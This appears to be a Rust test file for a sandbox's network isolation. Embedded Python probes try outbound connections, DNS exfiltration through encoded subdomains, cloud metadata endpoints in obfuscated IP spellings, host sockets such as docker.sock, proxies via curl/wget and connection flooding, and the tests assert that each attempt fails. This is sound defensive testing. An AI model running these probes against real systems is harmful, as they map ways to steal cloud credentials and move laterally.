//! I: the network.

use crate::harness::{Case, Severity};

#[tokio::test(flavor = "multi_thread")]
async fn i1_connections() {
    let case = Case::begin(
        "I1",
        Severity::Exfil,
        "connect by TCP, UDP and ICMP, IPv4 and IPv6, to the host's loopback and outside",
        "each fails at once",
    )
    .await;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // 192.0.2.0/24 and 2001:db8::/32 are for documentation: nobody is there.
    let code = format!(
        "import socket, time\nstarted = time.time()\nfor family, kind, address in [\n    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {port})),\n    (socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 443)),\n    (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 443)),\n    (socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 443)),\n    (socket.AF_INET6, socket.SOCK_DGRAM, ('2001:db8::1', 443)),\n    (socket.AF_INET, socket.SOCK_STREAM, ('172.17.0.1', 80)),\n    (socket.AF_INET, socket.SOCK_RAW, ('192.0.2.1', 0)),\n]:\n    try:\n        s = socket.socket(family, kind, 1 if kind == socket.SOCK_RAW else 0)\n        s.settimeout(5); s.connect(address); s.send(b'x'); print('SENT', address)\n    except OSError: pass\nprint('at once' if time.time() - started < 1 else 'slowly')"
    );
    // The host itself reaches its listener.
    std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let session = case.session().await;
    assert_eq!(case.printed(&session, code).await, "at once\n");
    drop(listener);
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i4_names() {
    let case = Case::begin(
        "I4",
        Severity::Exfil,
        "getaddrinfo(data + '.example.com')",
        "no resolver: it fails at once, and nothing is sent",
    )
    .await;
    let session = case.session().await;
    let code = "import socket, time\nstarted = time.time()\ntry: print('LEAK', socket.getaddrinfo('7f3a.example.com', 80))\nexcept OSError as e: print(type(e).__name__)\nprint('at once' if time.time() - started < 1 else 'slowly')";
    assert_eq!(case.printed(&session, code).await, "gaierror\nat once\n");
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i1a_datagrams() {
    let case = Case::begin(
        "I1a",
        Severity::Exfil,
        "UDP to the host's loopback (as QUIC, DNS and syslog would), IPv4 and IPv6; broadcast; multicast",
        "nothing arrives; ENETUNREACH outside of loopback",
    )
    .await;
    let v4 = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let v6 = std::net::UdpSocket::bind("[::1]:0").unwrap();
    for listener in [&v4, &v6] {
        listener
            .set_read_timeout(Some(std::time::Duration::from_millis(100)))
            .unwrap();
        // The host itself reaches it.
        let address = listener.local_addr().unwrap();
        listener.send_to(b"x", address).unwrap();
        assert_eq!(listener.recv(&mut [0; 8]).unwrap(), 1);
    }
    let code = format!(
        r#"
import errno, socket
for family, address in [
    (socket.AF_INET, ("127.0.0.1", {})), (socket.AF_INET6, ("::1", {})),
    (socket.AF_INET, ("192.0.2.1", 443)), (socket.AF_INET6, ("2001:db8::1", 443)),
    (socket.AF_INET, ("8.8.8.8", 53)), (socket.AF_INET, ("255.255.255.255", 67)),
    (socket.AF_INET, ("224.0.0.251", 5353)), (socket.AF_INET6, ("ff02::fb", 5353)),
]:
    one = socket.socket(family, socket.SOCK_DGRAM)
    if family == socket.AF_INET:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for _ in range(3):
        try: result = "sent" if one.sendto(b"x" * 1200, address) else None
        except OSError as error: result = errno.errorcode[error.errno]
    print(address[0], result)
"#,
        v4.local_addr().unwrap().port(),
        v6.local_addr().unwrap().port(),
    );
    let session = case.session().await;
    // What is sent to loopback stays on the session's own.
    assert_eq!(
        case.printed(&session, code).await,
        "127.0.0.1 sent\n::1 sent\n192.0.2.1 ENETUNREACH\n2001:db8::1 ENETUNREACH\n\
        8.8.8.8 ENETUNREACH\n255.255.255.255 ENETUNREACH\n224.0.0.251 ENETUNREACH\n\
        ff02::fb ENETUNREACH\n"
    );
    for listener in [v4, v6] {
        let error = listener.recv(&mut [0; 8]).unwrap_err();
        assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock);
    }
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i1b_interfaces() {
    let case = Case::begin(
        "I1b",
        Severity::Exfil,
        "look for a way out: interfaces, routes, binding to a device or to an address of another network, new interfaces",
        "loopback alone, no route; ENODEV, EADDRNOTAVAIL, no netlink",
    )
    .await;
    let code = r#"
import errno, fcntl, re, socket, struct
def result(action):
    try: return action()
    except OSError as error: return errno.errorcode[error.errno]
print(re.findall(r"^\s*(\S+):", open("/proc/net/dev").read(), re.M), open("/proc/net/route").read().count("\n"))
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(result(lambda: one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")))
print(result(lambda: one.bind(("192.0.2.1", 0))), result(lambda: one.bind(("10.0.0.1", 0))))
# Bring up a tunnel, add a route, set an address.
for request in (0x8914, 0x890B, 0x8916, 0x89F1):
    print(result(lambda: fcntl.ioctl(one, request, struct.pack("16s24x", b"lo"))), end=" ")
print(result(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)), result(lambda: open("/dev/net/tun")))
"#;
    let session = case.session().await;
    assert_eq!(
        case.printed(&session, code).await,
        "['lo'] 1\nENODEV\nEADDRNOTAVAIL EADDRNOTAVAIL\nENOTTY ENOTTY ENOTTY ENOTTY EAFNOSUPPORT ENOENT\n"
    );
    case.end([session]).await;
}

/// Without a control: nobody answers at these addresses here, and on a cloud they must not be asked.
#[tokio::test(flavor = "multi_thread")]
async fn i2_metadata_services() {
    let case = Case::begin(
        "I2",
        Severity::Exfil,
        "metadata services of clouds: 169.254.169.254, fd00:ec2::254, 169.254.170.2, 100.100.100.200, in each spelling and by name",
        "ENETUNREACH, or no such name; each at once",
    )
    .await;
    let session = case.session().await;
    let code = r#"
import errno, socket, time, urllib.error, urllib.request
started = time.monotonic()
for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]",
             "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "169.254.170.2", "169.254.170.23", "100.100.100.200", "192.0.0.192",
             "[fe80::a9fe:a9fe%25lo]", "metadata.google.internal", "metadata", "169.254.169.254.nip.io", "instance-data.ec2.internal"):
    try:
        print("OPEN", host, urllib.request.urlopen(f"http://{host}/latest/meta-data/", timeout=5).status)
    except urllib.error.URLError as error:
        reason = error.reason
        print("no name" if isinstance(reason, socket.gaierror) else errno.errorcode[reason.errno], end=" ")
print("at once" if time.monotonic() - started < 2 else "slowly")
"#;
    let text = case.printed(&session, code).await;
    let (results, speed) = text
        .trim_end()
        .rsplit_once("at once")
        .unwrap_or((&text, "?"));
    assert_eq!(speed, "", "{text}");
    let results: Vec<&str> = results.split_whitespace().collect();
    assert_eq!(results[..12], ["ENETUNREACH"; 12], "{text}");
    assert!(!text.contains("OPEN"), "{text}");
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i3_private_networks() {
    let case = Case::begin(
        "I3",
        Severity::Lateral,
        "private, carrier-grade, link-local and container networks: 10/8, 172.16/12, 192.168/16, 100.64/10, 169.254/16, fc00::/7, fe80::/10, 198.18/15, and the host's own addresses",
        "ENETUNREACH for each",
    )
    .await;
    // Where the host is found by its neighbours.
    let own = std::process::Command::new("hostname").arg("-I").output();
    let own = own.map_or_else(
        |_| String::new(),
        |output| String::from_utf8_lossy(&output.stdout).into_owned(),
    );
    let own: Vec<String> = own.split_whitespace().map(|a| format!("{a:?}")).collect();
    let code = format!(
        r#"
import errno, socket
for address in ("10.0.0.1", "172.16.0.1", "172.17.0.1", "192.168.0.1", "192.168.1.1", "100.64.0.1", "169.254.1.1", "198.18.0.1",
                "fc00::1", "fd00::1", "fe80::1", "64:ff9b::a00:1", "2002:a00:1::", {}):
    found = set()
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        one = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
        one.settimeout(5)
        try: found.add(one.connect((address, 80)))
        except OSError as error: found.add(errno.errorcode[error.errno])
    print(address, *sorted(found, key=str))
"#,
        own.join(", ")
    );
    let session = case.session().await;
    let text = case.printed(&session, code).await;
    assert!(text.lines().count() >= 13, "{text}");
    for line in text.lines() {
        // A link-local address needs the name of a link.
        let expected = if line.starts_with("fe80:") {
            "EINVAL"
        } else {
            "ENETUNREACH"
        };
        assert!(line.ends_with(&format!(" {expected}")), "{text}");
        assert_eq!(line.split(' ').count(), 2, "{text}");
    }
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i4a_other_resolvers() {
    let case = Case::begin(
        "I4a",
        Severity::Exfil,
        "names by other ways: a resolver of its own over UDP and TCP, /etc/hosts, localhost, .local, getent",
        "no resolver is configured and none can be reached; localhost is the session itself",
    )
    .await;
    let session = case.session().await;
    let code = r#"
import errno, os, socket, struct, subprocess
print(os.path.exists("/etc/resolv.conf"), os.path.exists("/run/systemd/resolve"), os.path.exists("/var/run/nscd/socket"))
query = struct.pack("!6H", 1, 256, 1, 0, 0, 0) + b"\x047f3a\x07example\x03com\0\0\1\0\1"
for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "9.9.9.9"):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(0.2)
    try:
        one.connect((server, 53)); one.send(query); one.recv(1); print("ANSWER")
    except OSError as error: print(errno.errorcode.get(error.errno, type(error).__name__), end=" ")
    try: socket.create_connection((server, 53), timeout=0.2); print("OPEN")
    except OSError as error: print(errno.errorcode[error.errno], end=" ")
print(subprocess.run(["getent", "hosts", "7f3a.example.com"], capture_output=True).returncode)
print({entry[4][0] for entry in socket.getaddrinfo("localhost", 80)} <= {"127.0.0.1", "::1"})
for name in ("host.docker.internal", "printer.local", "gateway", "_gateway", "kubernetes.default.svc"):
    try: print("LEAK", socket.getaddrinfo(name, 80))
    except socket.gaierror: pass
"#;
    assert_eq!(
        case.printed(&session, code).await,
        "False False False\n\
        ENETUNREACH ENETUNREACH ENETUNREACH ENETUNREACH ECONNREFUSED ECONNREFUSED ENETUNREACH ENETUNREACH 2\n\
        True\n"
    );
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i7_proxies() {
    let case = Case::begin(
        "I7",
        Severity::Exfil,
        "set, unset and ignore proxy variables; curl and other programs of the host",
        "no proxy is offered, and without one there is no way either",
    )
    .await;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let code = format!(
        r#"
import errno, os, shutil, subprocess, urllib.error, urllib.request
print([name for name in os.environ if "proxy" in name.lower()], urllib.request.getproxies())
for proxies in ({{}}, {{"http": "http://127.0.0.1:{port}"}}, {{"http": "http://192.0.2.1:3128"}}):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    try: print("OPEN", opener.open("http://192.0.2.1/", timeout=5))
    except urllib.error.URLError as error: print(errno.errorcode[error.reason.errno])
for program in (["curl", "-sS", "-m", "5"], ["wget", "-q", "-T", "5", "-t", "1", "-O", "-"]):
    if shutil.which(program[0]):
        if subprocess.run([*program, "http://192.0.2.1/"], capture_output=True).returncode == 0: print("OPEN")
"#
    );
    let session = case.session().await;
    assert_eq!(
        case.printed(&session, code).await,
        "[] {}\nENETUNREACH\nECONNREFUSED\nENETUNREACH\n"
    );
    drop(listener);
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i8_abstract_sockets() {
    use std::os::linux::net::SocketAddrExt;
    let case = Case::begin(
        "I8",
        Severity::Lateral,
        "connect to an abstract socket of the host and to one of another session; list /proc/net/unix",
        "ECONNREFUSED; only its own sockets are listed",
    )
    .await;
    let name = format!("belljar-test-{}", std::process::id());
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&name).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&address).unwrap();
    std::os::unix::net::UnixStream::connect_addr(&address).unwrap();
    let (session, other) = (case.session().await, case.session().await);
    let listen = r#"
import errno, socket
listener = socket.socket(socket.AF_UNIX)
listener.bind("\0of-another-session")
listener.listen()
client = socket.socket(socket.AF_UNIX)
client.connect("\0of-another-session")
print(client.getpeername())
"#;
    assert_eq!(
        case.printed(&other, listen).await,
        "b'\\x00of-another-session'\n"
    );
    let code = format!(
        r#"
import errno, socket
for name in ("\0{name}", "\0of-another-session", "\0/tmp/.X11-unix/X0", "\0/tmp/dbus-1"):
    try: socket.socket(socket.AF_UNIX).connect(name); print("OPEN", name)
    except OSError as error: print(errno.errorcode[error.errno], end=" ")
print([line.split()[7:] for line in open("/proc/net/unix")][1:])
"#
    );
    assert_eq!(
        case.printed(&session, code).await,
        "ECONNREFUSED ECONNREFUSED ECONNREFUSED ECONNREFUSED []\n"
    );
    drop(listener);
    case.end([session, other]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i8a_socket_files() {
    let case = Case::begin(
        "I8a",
        Severity::Escape,
        "socket files of the host: one beside a canary, docker.sock, containerd, D-Bus, systemd, X11, ssh-agent, /dev/log",
        "ENOENT: none is visible",
    )
    .await;
    let path = case.canaries.file.with_file_name("listener.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    std::os::unix::net::UnixStream::connect(&path).unwrap();
    let code = format!(
        r#"
import errno, os, socket, stat
found = set()
for path in ("{}", "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
             "/run/crio/crio.sock", "/run/dbus/system_bus_socket", "/run/user/0/bus", "/run/user/1000/bus", "/run/systemd/private",
             "/run/systemd/journal/socket", "/tmp/.X11-unix/X0", "/dev/log", "/run/snapd.socket", "/var/run/nscd/socket",
             "/var/lib/lxd/unix.socket", "/run/postgresql/.s.PGSQL.5432", "/var/run/mysqld/mysqld.sock"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try: socket.socket(socket.AF_UNIX, kind).connect(path); print("OPEN", path)
        except OSError as error: found.add(errno.errorcode[error.errno])
print(found)
# Any other socket in what is shown of the host, outside of the libraries.
for top in ("/etc", "/opt", "/var", "/dev", "/workspace", "/tmp"):
    for place, _, names in os.walk(top):
        for name in names:
            if stat.S_ISSOCK(os.lstat(os.path.join(place, name)).st_mode): print("SOCKET", place, name)
"#,
        path.display()
    );
    let session = case.session().await;
    assert_eq!(case.printed(&session, code).await, "{'ENOENT'}\n");
    drop(listener);
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i9_listening() {
    let case = Case::begin(
        "I9",
        Severity::Lateral,
        "listen on 0.0.0.0 and ::, on a port that the host uses and on one that it does not",
        "neither the host nor another session reaches it; the host's own listener is not shadowed",
    )
    .await;
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let ports = [&taken, &free].map(|listener| listener.local_addr().unwrap().port());
    drop(free);
    let (session, other) = (case.session().await, case.session().await);
    let listen = format!(
        r#"
import socket
listeners = []
for port in {ports:?}:
    for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        one = socket.socket(family)
        if family == socket.AF_INET6: one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        one.bind((address, port))
        one.listen()
        listeners.append(one)
    client = socket.create_connection(("127.0.0.1", port))
    print(client.getpeername()[1] == port)
"#
    );
    assert_eq!(case.printed(&session, listen).await, "True\nTrue\n");
    for address in ["127.0.0.1", "::1"] {
        let error = std::net::TcpStream::connect((address, ports[1])).unwrap_err();
        assert_eq!(error.kind(), std::io::ErrorKind::ConnectionRefused);
    }
    let connect = format!(
        "import errno, socket\nfor port in {ports:?}:\n    for address in ('127.0.0.1', '::1'):\n        try: socket.create_connection((address, port), 5); print('OPEN')\n        except OSError as error: print(errno.errorcode[error.errno])"
    );
    assert_eq!(
        case.printed(&other, connect).await,
        "ECONNREFUSED\nECONNREFUSED\nECONNREFUSED\nECONNREFUSED\n"
    );
    // A client of the host gets to the host's listener.
    let client = std::net::TcpStream::connect(("127.0.0.1", ports[0])).unwrap();
    let (_, peer) = taken.accept().unwrap();
    assert_eq!(peer, client.local_addr().unwrap());
    drop((client, taken));
    case.end([session, other]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn i10_services_of_the_host() {
    let case = Case::begin(
        "I10",
        Severity::Lateral,
        "connect to every port on which the host listens, at loopback and at the host's addresses; 22, 80, 443, 2375, 4222, 5432, 6379, 8080, 9090, 11434",
        "ECONNREFUSED on its own loopback, ENETUNREACH elsewhere",
    )
    .await;
    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    // Of /proc/net/tcp: the local address in hexadecimal, and the state 0A for listening.
    let listening = |path: &str| -> Vec<u16> {
        let text = std::fs::read_to_string(path).unwrap_or_default();
        let lines = text.lines().map(|line| line.split_whitespace().collect());
        lines
            .filter(|fields: &Vec<&str>| fields.get(3) == Some(&"0A"))
            .filter_map(|fields| u16::from_str_radix(fields[1].rsplit(':').next()?, 16).ok())
            .collect()
    };
    let mut ports = listening("/proc/net/tcp");
    ports.extend(listening("/proc/net/tcp6"));
    assert!(ports.contains(&listener.local_addr().unwrap().port()));
    ports.extend([22, 80, 443, 2375, 4222, 5432, 6379, 8080, 9090, 11434]);
    let code = format!(
        r#"
import errno, socket
found = {{}}
for port in {ports:?}:
    for address in ("127.0.0.1", "::1", "0.0.0.0", "127.0.1.1", "192.0.2.1"):
        one = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
        one.settimeout(5)
        try: one.connect((address, port)); print("OPEN", address, port)
        except OSError as error: found.setdefault(errno.errorcode[error.errno], set()).add(address)
print({{name: sorted(addresses) for name, addresses in sorted(found.items())}})
"#
    );
    let session = case.session().await;
    assert_eq!(
        case.printed(&session, code).await,
        "{'ECONNREFUSED': ['0.0.0.0', '127.0.0.1', '127.0.1.1', '::1'], 'ENETUNREACH': ['192.0.2.1']}\n"
    );
    drop(listener);
    case.end([session]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn heavy_i11_connections() {
    let case = Case::begin(
        "I11",
        Severity::PeerDos,
        "100,000 connections on its own loopback, closed and kept open",
        "only its own descriptors and ports run out; the sibling and the host connect as before",
    )
    .await;
    let session = case.session().await;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let watch = case.watch_sibling();
    let code = r#"
import errno, os, socket, time
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(1024)
address = listener.getsockname()
kept = []
try:
    while True: kept.append(socket.create_connection(address))
except OSError as error: print(errno.errorcode[error.errno])
for one in kept: one.close()
kept.clear()
listener.close()
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(1024)
made, failed, started = 0, set(), time.monotonic()
while made < 100_000 and time.monotonic() - started < 6 and not failed:
    one = socket.socket()
    try: one.connect(listener.getsockname()); made += 1; listener.accept()[0].close()
    except OSError as error: failed.add(errno.errorcode[error.errno])
    one.close()
print(made > 5000, failed <= {"EADDRNOTAVAIL"})
"#;
    assert_eq!(case.printed(&session, code).await, "EMFILE\nTrue True\n");
    watch.finish().await;
    std::net::TcpStream::connect(address).unwrap();
    drop(listener);
    case.end([session]).await;
}
